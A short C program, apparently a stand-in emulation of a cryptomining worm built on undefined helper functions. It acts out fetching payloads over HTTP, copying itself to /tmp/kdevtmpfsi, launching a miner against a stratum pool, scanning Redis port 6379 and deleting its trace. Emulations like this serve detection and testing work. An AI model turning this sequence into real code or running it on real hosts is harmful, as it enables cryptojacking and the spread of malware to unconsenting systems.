#include "stand-in.h"

int main(int argc, char **argv)
{
	(void)argv;
	if (argc > 1) {
		int pool = dial("stratum", 3333);

		stratum_login(pool);
		mine(pool, 0, 100, 15, KEEP_ALIVE);
		return 0;
	}
	http_get("http", 8000, "/get");
	http_get("http", 8000, "/mg");
	copy_self("/tmp/kdevtmpfsi");
	if (fork() == 0)
		execl("/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi", "--coin", (char *)NULL);
	scan(6379, 60);
	wait(NULL);
	unlink("/tmp/kdevtmpfsi");
}
